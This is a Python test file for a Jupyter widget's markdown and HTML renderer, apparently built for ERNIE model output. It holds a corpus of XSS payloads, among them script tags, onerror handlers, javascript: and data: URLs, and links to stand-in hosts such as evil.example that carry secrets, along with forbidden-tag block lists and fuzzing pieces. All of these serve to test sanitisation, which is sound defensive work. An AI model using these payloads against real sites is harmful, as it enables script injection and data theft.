"""Kernel-side rendering: CJK emphasis, an XSS corpus, code extraction, MIME bundles, properties."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ernie_widget.render import (
    FORMATS,
    HIGHLIGHT_CSS,
    bundle,
    extract_code,
    extract_code_blocks,
    render_code,
    render_html,
    render_markdown,
    sources_html,
    to_plain,
)
from ernie_widget.transcript import conversation_markdown

# --- the safety audit ----------------------------------------------------------------------------------

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "img", "image",
    "style", "link", "meta", "base", "form", "input", "button", "textarea", "select", "option",
    "video", "audio", "source", "track", "picture", "template", "noscript", "xmp", "body", "html",
}  # fmt: skip
FORBIDDEN_ATTRS = {
    "style",
    "src",
    "srcdoc",
    "srcset",
    "formaction",
    "action",
    "background",
    "xlink:href",
    "data",
}
SAFE_URL = re.compile(r"^(https?://|mailto:|#)", re.IGNORECASE)


class Audit(HTMLParser):
    """Collects tags, attributes and visible text the way a browser tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((tag, name, value) for name, value in attrs)

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def audit(html: str) -> Audit:
    parser = Audit()
    parser.feed(html)
    parser.close()
    return parser


def assert_safe(html: str) -> Audit:
    a = audit(html)
    assert not FORBIDDEN_TAGS & set(a.tags), (set(a.tags) & FORBIDDEN_TAGS, html)
    # A second, tokenizer-independent look at the raw string: no live tag of those kinds at all.
    assert not re.search(r"<\s*/?\s*(script|iframe|object|embed|svg|math|img|style)\b", html, re.I), html
    for tag, name, value in a.attrs:
        assert not name.startswith("on"), (tag, name, html)
        assert name not in FORBIDDEN_ATTRS, (tag, name, html)
        if name == "href":
            assert value is not None and SAFE_URL.match(value.strip()), (value, html)
    for tag, name, value in a.attrs:
        if tag == "a" and name == "rel":
            assert value is not None and {"noopener", "noreferrer", "nofollow"} <= set(value.split())
    anchors = a.tags.count("a")
    assert sum(1 for t, n, v in a.attrs if t == "a" and n == "target" and v == "_blank") == anchors
    assert sum(1 for t, n, _ in a.attrs if t == "a" and n == "rel") == anchors
    return a


def visible(html: str) -> str:
    return " ".join("".join(audit(html).text).split())


def squash(text: str) -> str:
    return " ".join(text.split())


# --- CJK emphasis (docs/notebook-facts.md §9.4) --------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "bold"),
    [
        ("这是**重要的。**后文", "重要的。"),
        ("**真，**她", "真，"),
        ("前文**「引用」**后文", "「引用」"),
        ("**强调**后文", "强调"),
        ("これは**「重要」**です。", "「重要」"),
    ],
)
def test_cjk_emphasis_is_bold(source, bold):
    assert f"<strong>{bold}</strong>" in render_markdown(source)


def test_ascii_emphasis_rules_are_unchanged():
    assert render_markdown("a**b**c") == "<p>a<strong>b</strong>c</p>\n"
    assert "<strong>" not in render_markdown("2 ** 3 ** 4")


# --- the XSS corpus ------------------------------------------------------------------------------------

# (payload, text that must still be visible; None = the payload itself, whitespace-normalised)
XSS_VECTORS: list[tuple[str, str | None]] = [
    # raw HTML: escaped by the markdown layer, visible as text
    ("<script>alert(1)</script>", None),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", None),
    ("<ScRiPt>alert(document.cookie)</sCrIpT>", None),
    ("<img src=x onerror=alert(1)>", None),
    ('<img src="javascript:alert(1)">', None),
    ("<img src=x onerror=alert(1)//", None),
    ("<svg onload=alert(1)>", None),
    ("<svg><script>alert(1)</script></svg>", None),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", None),
    ('<iframe src="javascript:alert(1)"></iframe>', None),
    ('<iframe srcdoc="<script>alert(1)</script>">', None),
    ('<object data="javascript:alert(1)"></object>', None),
    ('<embed src="javascript:alert(1)">', None),
    ('<a href="javascript:alert(1)">x</a>', None),
    ('<a href="https://ok.example" onclick="alert(1)">x</a>', None),
    ('<a href="&#106;avascript:alert(1)">x</a>', '<a href="javascript:alert(1)">x</a>'),
    ('<div style="background:url(javascript:alert(1))">x</div>', None),
    ('<p style="position:fixed;top:0;left:0">overlay</p>', None),
    ('<form action="javascript:alert(1)"><button>go</button></form>', None),
    ("<input autofocus onfocus=alert(1)>", None),
    ("<details open ontoggle=alert(1)>", None),
    ("<body onload=alert(1)>", None),
    ("<style>body{display:none}</style>", None),
    ("<link rel=stylesheet href=//evil.example/x.css>", None),
    ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', None),
    ('<base href="//evil.example/">', None),
    # broken and nested tags
    ("<<script>script>alert(1)<</script>/script>", None),
    ("<scr<script>ipt>alert(1)</script>", None),
    ('<!--<img src="--><img src=x onerror=alert(1)//">', None),
    ("</p><script>alert(1)</script><p>", None),
    # markdown links with unsafe targets: refused, left as literal text
    ("[x](javascript:alert(1))", None),
    ("[x](JaVaScRiPt:alert(1))", None),
    ("[x](  javascript:alert(1) )", None),
    ("[x](java\tscript:alert(1))", None),
    ("[x](&#106;avascript:alert(1))", "[x](javascript:alert(1))"),
    ("[x](&#x6A;avascript&#x3A;alert(1))", "[x](javascript:alert(1))"),
    ("[x](javascript&colon;alert(1))", "[x](javascript:alert(1))"),
    ("[x](%6Aavascript:alert(1))", "x"),
    ("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", None),
    ("[x](data:text/html,<script>alert(1)</script>)", None),
    ("[x](vbscript:msgbox(1))", None),
    ("[x](file:///etc/passwd)", None),
    ('[x](<#" onclick="alert(1)>)', "x"),
    ('[x](https://ok.example "t\\" onmouseover=\\"alert(1)")', "x"),
    ("[x](`javascript:alert(1)`)", "x"),  # a relative href to nh3: dropped
    ("[x]: javascript:alert(1)\n\n[x]", "[x]: javascript:alert(1) [x]"),
    ("[x]: https://evil.example/?q=secret\n\n[x]", "[x]: https://evil.example/?q=secret [x]"),
    # autolinks
    ("<javascript:alert(1)>", None),
    ("<JAVASCRIPT:alert(1)>", None),
    ("<vbscript:msgbox(1)>", None),
    ("<data:text/html,<script>alert(1)</script>>", None),
    # images: never <img>, remote ones become a plain link with the alt text
    ("![x](https://attacker.example/p.png?q=secret)", "🖼 x"),
    ("![x](//attacker.example/p.png)", "🖼 x"),
    ("![x](javascript:alert(1))", None),
    ("![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", None),  # refused by markdown-it: stays text
    ("![x](data:image/png;base64,iVBORw0KGgo=)", "🖼 x"),
    ('![x" onerror="alert(1)](https://a.example/p.png)', '🖼 x" onerror="alert(1)'),
    ("[![x](https://a.example/i.png)](javascript:alert(1))", "[🖼 x](javascript:alert(1))"),
    ("[![x](https://a.example/i.png)](https://ok.example)", "🖼 x"),
    # entities
    ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
    ("&#60;script&#62;alert(1)&#60;/script&#62;", "<script>alert(1)</script>"),
    # payloads inside markdown constructs
    ("`<script>alert(1)</script>`", "<script>alert(1)</script>"),
    ("```html\n<script>alert(1)</script>\n```", "<script>alert(1)</script>"),
    ('```"><script>alert(1)</script>\nx\n```', "x"),
    ("```js onload=alert(1)\nx\n```", "x"),
    ("**<img src=x onerror=alert(1)>**", "<img src=x onerror=alert(1)>"),
    ("> <iframe src=//evil.example>", "<iframe src=//evil.example>"),
    ("- <img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    (
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
        "a b <script>alert(1)</script> [x](javascript:alert(1))",
    ),
    # math is escaped text, never markup
    ("$<img src=x onerror=alert(1)>$", None),
    ("$$\n</div><script>alert(1)</script>\n$$", None),
    ("\\(<svg onload=alert(1)>\\)", None),
]


def test_corpus_is_large_enough():
    assert len(XSS_VECTORS) >= 40


@pytest.mark.parametrize(("payload", "expected"), XSS_VECTORS, ids=[p[:40] for p, _ in XSS_VECTORS])
def test_xss_vector_is_neutralised_and_text_stays_visible(payload, expected):
    html = render_markdown(payload)
    assert_safe(html)
    assert squash(expected if expected is not None else payload) in visible(html)


@pytest.mark.parametrize(("payload", "expected"), XSS_VECTORS, ids=[p[:40] for p, _ in XSS_VECTORS])
def test_xss_vector_as_trusted_html_is_still_sanitised(payload, expected):
    assert_safe(render_html(payload, trusted=True))


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("payload", [p for p, _ in XSS_VECTORS[:30]])
def test_every_bundle_format_is_safe(fmt, payload):
    for trust in (False, True):
        html = bundle(payload, fmt, trust_html=trust)["text/html"]
        assert_safe(html.replace(f"<style>{HIGHLIGHT_CSS}</style>", ""))


def test_remote_image_is_a_link_not_an_img():
    html = render_markdown("![chart](https://example.com/c.png)")
    a = assert_safe(html)
    assert "img" not in a.tags
    assert ("a", "href", "https://example.com/c.png") in a.attrs
    assert ("a", "class", "ernie-image-link") in a.attrs


def test_data_image_is_blocked_without_a_link():
    a = assert_safe(render_markdown("![d](data:image/png;base64,AAAA)"))
    assert "a" not in a.tags
    assert ("span", "class", "ernie-image-blocked") in a.attrs


def test_links_open_in_a_new_tab_without_referrer():
    html = render_markdown("[docs](https://cloud.baidu.com/doc) and <https://example.com>")
    a = assert_safe(html)
    assert a.tags.count("a") == 2
    assert ("a", "href", "https://cloud.baidu.com/doc") in a.attrs
    assert ("a", "target", "_blank") in a.attrs


def test_mailto_and_fragment_links_survive_but_relative_paths_do_not():
    a = audit(render_markdown("[m](mailto:a@b.example) [f](#top) [r](/api/contents) [u](../files/x)"))
    hrefs = [v for t, n, v in a.attrs if n == "href"]
    assert hrefs == ["mailto:a@b.example", "#top"]


# --- markdown features ---------------------------------------------------------------------------------


def test_fenced_code_has_language_class_and_highlighting():
    html = render_markdown("```python\ndef f():\n    return 1\n```")
    a = assert_safe(html)
    assert ("code", "class", "language-python") in a.attrs
    assert ("pre", "class", "ernie-code highlight") in a.attrs
    assert ("span", "class", "k") in a.attrs  # pygments keyword span for `def`
    assert "def f():" in visible(html).replace("  ", " ")


def test_fence_without_highlighting_is_plain_escaped_code():
    html = render_markdown("```python\nx < 1\n```", highlight=False)
    assert html == '<pre class="ernie-code"><code class="language-python">x &lt; 1\n</code></pre>\n'


def test_unknown_language_keeps_its_class_without_highlighting():
    html = render_markdown("```no-such-lang\na<b\n```")
    assert '<code class="language-no-such-lang">a&lt;b\n</code>' in html
    assert "highlight" not in html


def test_tables_render_with_alignment_but_no_style():
    html = render_markdown("| a | b |\n|:-|-:|\n| 1 | 2 |")
    a = assert_safe(html)
    assert "table" in a.tags
    assert ("th", "align", "left") in a.attrs and ("td", "align", "right") in a.attrs


def test_ordered_list_start_is_kept():
    assert '<ol start="3">' in render_markdown("3. three\n4. four")


def test_inline_and_display_math_stay_escaped_text():
    html = render_markdown("Euler: $e^{i\\pi}+1=0$ and $a<b$.\n\n$$\n\\sum_{k=1}^n k\n$$")
    assert '<span class="ernie-math mathjax_process">$e^{i\\pi}+1=0$</span>' in html
    assert '<span class="ernie-math mathjax_process">$a&lt;b$</span>' in html
    assert '<div class="ernie-math ernie-math-display mathjax_process"><bdi>$$\n\\sum_{k=1}^n k\n$$</bdi></div>' in html


def test_math_is_not_parsed_as_markdown():
    html = render_markdown("$a*b*c$ and $$x_1 * y_2$$")
    assert "<em>" not in html
    assert "$a*b*c$" in html


def test_display_math_may_contain_blank_lines():
    html = render_markdown("$$\na\n\n* b\n$$\nafter")
    assert "<li>" not in html
    assert "<p>after</p>" in html


def test_latex_bracket_delimiters():
    html = render_markdown("inline \\(x^2\\) and \\[y^2\\]")
    assert '<span class="ernie-math mathjax_process">\\(x^2\\)</span>' in html
    assert '<span class="ernie-math mathjax_process">\\[y^2\\]</span>' in html


@pytest.mark.parametrize("text", ["It costs $5 and $10.", "US$5, or $ 6", "price: $5.99 vs $6"])
def test_prices_are_not_math(text):
    assert "ernie-math" not in render_markdown(text)


def test_reference_definitions_are_disabled():
    html = render_markdown("[docs][1]\n\n[1]: https://example.com")
    assert "<a" not in html
    assert "[1]: https://example.com" in visible(html)


def test_raw_html_is_shown_as_text():
    assert render_markdown("<b>bold?</b>") == "<p>&lt;b&gt;bold?&lt;/b&gt;</p>\n"


def test_empty_text_renders_empty():
    assert render_markdown("") == ""


# --- render_code / render_html ---------------------------------------------------------------------------


def test_render_code_escapes_everything():
    html = render_code("</code></pre><script>alert(1)</script>", None)
    assert_safe(html)
    assert html.startswith('<pre class="ernie-code"><code>')
    assert visible(html) == "</code></pre><script>alert(1)</script>"


def test_render_code_highlights_python_with_pygments_classes():
    html = render_code("import os\nprint('hi')  # c", "python")
    a = assert_safe(html)
    classes = {v for t, n, v in a.attrs if t == "span" and n == "class"}
    assert {"kn", "nn", "s1", "c1"} <= classes
    assert "".join(audit(html).text) == "import os\nprint('hi')  # c"


def test_render_code_sanitises_a_hostile_language_name():
    html = render_code("x", '"><script>alert(1)</script>')
    assert_safe(html)
    assert "script" not in html


def test_render_html_untrusted_shows_source():
    html = render_html("<b onclick=x>hi</b>", trusted=False)
    assert_safe(html)
    assert visible(html) == "<b onclick=x>hi</b>"


def test_render_html_trusted_keeps_formatting_and_drops_scripts():
    html = render_html(
        '<b onclick="x()">hi</b><script>alert(1)</script><a href="https://e.example">e</a>', True
    )
    assert_safe(html)
    assert "<b>hi</b>" in html
    assert "alert" not in html  # script content is dropped, not shown
    assert visible(html) == "hie"


def test_to_plain_is_identity():
    text = "**中文** <b>\n"
    assert to_plain(text) is text


# --- code extraction -------------------------------------------------------------------------------------


def test_extract_several_fences_in_order():
    md = "Intro\n```python\na = 1\n```\ntext\n~~~bash\necho hi\n~~~\n```\nplain\n```\n"
    assert extract_code_blocks(md) == [("python", "a = 1\n"), ("bash", "echo hi\n"), (None, "plain\n")]
    assert extract_code(md) == "a = 1\n\necho hi\n\nplain"


def test_extract_unclosed_final_fence_while_streaming():
    md = "Here you go:\n```python\ndef f():\n    return {1: 2}"
    assert extract_code_blocks(md) == [("python", "def f():\n    return {1: 2}")]
    assert extract_code(md) == "def f():\n    return {1: 2}"


def test_extract_without_fence_returns_stripped_text():
    assert extract_code("\n  print('x')\n\n") == "print('x')"
    assert extract_code_blocks("no code here") == []


def test_extract_language_from_info_string_variants():
    md = '```python title="a.py"\n1\n```\n```{r}\n2\n```\n```.js\n3\n```'
    assert [lang for lang, _ in extract_code_blocks(md)] == ["python", "r", "js"]


def test_extract_fences_inside_lists_and_quotes_are_dedented():
    md = "1. step\n\n   ```sh\n   pip install x\n   ```\n\n> ```py\n> y = 2\n> ```"
    assert extract_code_blocks(md) == [("sh", "pip install x\n"), ("py", "y = 2\n")]


def test_extraction_agrees_with_the_renderer():
    md = "a\n```py\n1\n```\n    indented code\n```\n2\n```\n`inline`"
    blocks = extract_code_blocks(md)
    html = render_markdown(md)
    # Indented code is not a fence: it is rendered, but not extracted.
    assert len(blocks) == 2
    assert html.count('<pre class="ernie-code') == 2
    assert html.count("<pre>") == 1


# --- bundles ---------------------------------------------------------------------------------------------


def test_markdown_bundle():
    data = bundle("# 标题\n\n**粗体**", "markdown")
    assert set(data) == {"text/html", "text/plain"}
    assert data["text/plain"] == "# 标题\n\n**粗体**"
    assert data["text/html"].startswith('<div class="ernie-output ernie-markdown mathjax_ignore"><h1>标题</h1>')
    assert bundle("x", "md") == {
        "text/html": bundle("x", "markdown")["text/html"],
        "text/plain": "x",
    }


def test_text_bundle_is_escaped_pre():
    data = bundle("a < b\n  c", "text")
    assert (
        data["text/html"]
        == '<div class="ernie-output ernie-text mathjax_ignore"><pre class="ernie-text">a &lt; b\n  c</pre></div>'
    )


def test_code_bundle_uses_extracted_code_and_adds_scoped_style():
    data = bundle("Sure!\n```python\nx = 1\n```\nDone.", "code")
    assert data["text/plain"] == "x = 1"
    html = data["text/html"]
    assert html.startswith(f'<div class="ernie-output ernie-code mathjax_ignore"><style>{HIGHLIGHT_CSS}</style>')
    # The stylesheet only ever targets our own output.
    selectors = re.findall(r"([^{}]+)\{", HIGHLIGHT_CSS)
    assert selectors and all(sel.startswith(".ernie-output pre.highlight :is(") for sel in selectors)


def test_streaming_bundle_skips_highlighting():
    data = bundle("```python\nx = 1\n", "code", streaming=True)
    assert "<style>" not in data["text/html"]
    assert 'class="ernie-output ernie-code mathjax_ignore ernie-streaming"' in data["text/html"]
    assert data["text/plain"] == "x = 1"


def test_json_bundle_pretty_prints_valid_json_even_when_fenced():
    data = bundle('```json\n{"a": [1, 2], "中": "文"}\n```', "json")
    assert data["text/plain"] == json.dumps({"a": [1, 2], "中": "文"}, indent=2, ensure_ascii=False)
    assert "language-json" in data["text/html"]


def test_json_bundle_falls_back_to_text():
    data = bundle('{"a": 1,', "json")
    assert data["text/plain"] == '{"a": 1,'
    assert visible(data["text/html"]) == '{"a": 1,'


def test_html_bundle_trust():
    untrusted = bundle("<b>x</b>", "html")["text/html"]
    assert "<b>" not in untrusted and "&lt;" in untrusted
    assert visible(untrusted.replace(f"<style>{HIGHLIGHT_CSS}</style>", "")) == "<b>x</b>"
    assert "<b>x</b>" in bundle("<b>x</b>", "html", trust_html=True)["text/html"]


def test_math_bundle_adds_latex_only_without_angle_brackets():
    data = bundle("E = mc^2", "math")
    assert data["text/latex"] == "$$\nE = mc^2\n$$"
    assert data["text/plain"] == "E = mc^2"
    assert '<div class="ernie-math ernie-math-display mathjax_process"><bdi>$$\nE = mc^2\n$$</bdi></div>' in data["text/html"]
    assert bundle("$$a \\le b$$", "math")["text/latex"] == "$$a \\le b$$"
    risky = bundle("a < b", "math")
    assert "text/latex" not in risky
    assert_safe(risky["text/html"])


def test_unknown_format_raises():
    with pytest.raises(ValueError, match="unknown output format"):
        bundle("x", "image")


# --- properties ------------------------------------------------------------------------------------------

_PIECES = [
    "<", ">", "/", "script", "img", "svg", " src=", " onerror=", "alert(1)", "javascript:", "JaVa\tscript:",
    "data:text/html,", "vbscript:", "http://x.example/", "[", "]", "(", ")", "![", "](", "<http://",
    "*", "**", "_", "`", "```", "~~~", "\n", "\n\n", "    ", "$", "$$", "\\(", "\\)", "\\[", "\\]", "\\",
    "&#106;", "&lt;", "&#x3A;", "&colon;", '"', "'", "=", "|", "-", "#", "> ", "1. ", " ", "a", "中",
    "。", "**真，**", "{", "}", "<!--", "-->", "style=", "<a href=",
]  # fmt: skip
markdownish = st.lists(st.sampled_from(_PIECES), max_size=40).map("".join)


@settings(max_examples=300, deadline=None)
@given(markdownish)
def test_render_markdown_never_raises_and_is_always_safe(text):
    assert_safe(render_markdown(text))


@settings(max_examples=100, deadline=None)
@given(markdownish, st.sampled_from(FORMATS), st.booleans(), st.booleans())
def test_bundle_is_always_safe(text, fmt, trust, streaming):
    data = bundle(text, fmt, trust_html=trust, streaming=streaming)
    assert_safe(data["text/html"].replace(f"<style>{HIGHLIGHT_CSS}</style>", ""))
    assert isinstance(data["text/plain"], str)


@settings(max_examples=100, deadline=None)
@given(markdownish)
def test_extract_code_never_raises(text):
    assert isinstance(extract_code(text), str)


@pytest.mark.parametrize("href", ["http:hit", "http:/logout", "https:api/kernels", "http:\\\\evil.example", "https://"])
def test_links_that_would_resolve_against_the_jupyter_page_lose_their_href(href):
    html = render_markdown(f"[x]({href}) after")
    assert "href" not in html and "after" in html


def test_absolute_links_keep_their_href():
    assert 'href="https://example.com/a?b#c"' in render_markdown("[x](https://example.com/a?b#c)")
    assert 'href="mailto:a@example.com"' in render_markdown("[x](mailto:a@example.com)")


@pytest.mark.parametrize("bomb", ["- " * 50 + "deep", "> " * 120 + "deep", "1. " * 60 + "deep"])
def test_text_after_a_nesting_bomb_is_still_shown(bomb):
    html = render_markdown(f"{bomb}\n\nAFTER-THE-BOMB and more")
    assert "AFTER-THE-BOMB" in html and "deep" in html


def test_ordinary_nesting_is_untouched():
    assert render_markdown("- a\n  - b\n    - c").count("<ul>") == 3


# --- web sources and citation markers ----------------------------------------------------------------------

SOURCES = [{"index": 1, "url": "https://yiyan.baidu.com/blog/ernie?a=1&b=2", "title": "ERNIE 4.5"},
           {"index": 2, "url": "https://example.org/r", "title": "报告"}]
HOSTILE_URLS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>x</script>", "/api/contents",
                "../files/x", "//evil.example/x", "http:/logout", "http:evil", "https://user@evil.example/",
                "vbscript:x", ""]


def hrefs(html: str) -> list[str | None]:
    return [v for t, n, v in audit(html).attrs if t == "a" and n == "href"]


def test_citation_markers_become_superscript_links_to_their_source():
    html = render_markdown("增长^[1]^，两者^[1][2]^。", sources=SOURCES)
    assert_safe(html)
    assert hrefs(html) == [SOURCES[0]["url"], SOURCES[0]["url"], SOURCES[1]["url"]]
    assert html.count("<sup>") == 2 and visible(html) == "增长[1]，两者[1][2]。"
    assert ("a", "title", "ERNIE 4.5") in audit(html).attrs


def test_a_marker_without_a_source_to_link_stays_plain_text():
    assert visible(render_markdown("无^[9]^，半^[1][9]^。", sources=SOURCES)) == "无^[9]^，半[1][9]。"
    html = render_markdown("见^[1]^。")  # no sources at all
    assert "<sup>" not in html and "href" not in html and visible(html) == "见^[1]^。"


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_a_source_url_that_is_not_absolute_http_with_a_host_links_nowhere(url):
    sources = [{"index": 1, "url": url, "title": "t"}]
    html = render_markdown("见^[1]^。", sources=sources) + sources_html(sources)
    assert_safe(html)
    assert hrefs(html) == [] and "见^[1]^。" in visible(html)


def test_markers_in_code_math_and_link_text_are_left_as_written():
    html = render_markdown("`^[1]^` [see ^[1]^](https://a.example/) $x^[1]^$ but ^[1]^", sources=SOURCES)
    assert hrefs(html) == ["https://a.example/", SOURCES[0]["url"]]
    assert "<code>^[1]^</code>" in html and "see ^[1]^" in visible(html)


def test_the_sources_list_is_numbered_titles_and_hosts_as_text():
    title = '<img src=x onerror=alert(1)>"><script>alert(2)</script>\u202eexe.txt'
    html = sources_html([{"index": 3, "url": "https://yiyan.baidu.com/x", "title": title},
                         {"index": 7, "url": "javascript:alert(1)", "title": "坏"}])
    a = assert_safe(html)
    assert ("li", "value", "3") in a.attrs and ("li", "value", "7") in a.attrs
    assert hrefs(html) == ["https://yiyan.baidu.com/x"]
    assert title in "".join(a.text) and "yiyan.baidu.com" in a.text
    assert a.tags.count("bdi") == 3  # the hostile title, its host, the other title: bidi stays in each
    assert sources_html([]) == sources_html(None) == ""


def test_markdown_and_text_bundles_carry_the_sources_and_other_formats_do_not():
    for fmt in ("markdown", "text"):
        data = bundle("答^[1]^", fmt, sources=SOURCES)
        assert "ernie-sources" in data["text/html"] and data["text/plain"].endswith(
            "来源 / Sources:\n[1] ERNIE 4.5 — https://yiyan.baidu.com/blog/ernie?a=1&b=2\n[2] 报告 — https://example.org/r")
    assert 'class="ernie-cite"' in bundle("答^[1]^", "markdown", sources=SOURCES)["text/html"]
    assert "ernie-sources" not in bundle("{}", "json", sources=SOURCES)["text/html"]
    assert bundle("答^[1]^", "markdown")["text/plain"] == "答^[1]^"


def test_a_transcript_lists_each_answers_sources_and_a_title_is_never_markup():
    title = "[click](https://evil.example/) **bold** \\(x\\) $y$ <b>z</b>"
    md = conversation_markdown([
        {"role": "user", "content": "q"},
        {"role": "assistant", "content": "答^[1]^", "search_results": [
            {"index": 1, "url": "https://yiyan.baidu.com/x", "title": title},
            {"index": 2, "url": "javascript:alert(1)", "title": "坏"}]},
    ])
    html = render_markdown(md)
    assert_safe(html)
    assert hrefs(html) == ["https://yiyan.baidu.com/x"]
    assert title in visible(html) and "<strong>bold</strong>" not in html and "ernie-math" not in html


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*_PIECES, "^[1]^", "^[2][3]^", "^", "^[", "]^"]), max_size=40).map("".join),
       st.lists(st.tuples(st.integers(1, 3), st.sampled_from([*HOSTILE_URLS, "https://ok.example/"]),
                          st.sampled_from(_PIECES)), max_size=4))
def test_rendering_with_any_sources_is_always_safe(text, entries):
    sources = [{"index": i, "url": u, "title": t} for i, u, t in entries]
    data = bundle(text, "markdown", sources=sources)
    assert_safe(data["text/html"].replace(f"<style>{HIGHLIGHT_CSS}</style>", ""))
